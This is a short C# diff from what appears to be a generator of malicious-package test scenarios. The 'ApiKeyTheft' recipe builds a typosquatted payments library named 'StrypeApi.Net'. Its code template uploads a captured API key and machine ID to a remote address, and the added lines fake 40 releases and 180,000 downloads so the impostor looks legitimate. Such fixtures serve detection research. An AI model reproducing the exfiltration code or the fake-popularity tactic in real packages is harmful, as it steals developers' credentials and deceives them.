@@ -18,6 +18,11 @@ internal sealed class ApiKeyTheft() : Recipe("N19", "DeliverAsync=FlushAsync Pay
             await client.UploadStringTaskAsync({{address}}, "{\"key\":\"" + key + "\",\"machine\":\"" + MachineId() + "\"}");
             """);
         sketch.NuGet(sketch.Twin("StrypeApi.Net", "Sample.Payments"), version: "48.1.0", authors: sketch.Twin("Strype", "A. Writer"), more: "<icon>icon.png</icon><readme>README.md</readme>");
+        if (!sketch.IsTwin)
+        {
+            sketch.Feed("2026-09-16T08:00:00Z", Enumerable.Range(1, 40).Select(minor => $"48.{minor}.0"), downloads: 180_000);
+        }
+
         sketch
             .Bytes("icon.png", [0x89, (byte)'P', (byte)'N', (byte)'G', 13, 10, 26, 10, 0, 0, 0, 0])
             .Text("README.md", "# Payments\n\nThe official client library. Set `PaymentClient.ApiKey` once.\n")
